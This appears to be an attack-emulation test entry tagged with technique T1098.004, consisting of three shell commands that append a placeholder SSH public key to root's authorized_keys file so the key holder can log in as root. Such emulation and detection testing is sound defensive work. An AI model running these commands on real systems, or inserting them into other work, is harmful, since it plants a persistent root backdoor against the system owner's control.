# title: A key is added to those that may log in as root
# technique: T1098.004

mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil evil@example' >>/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
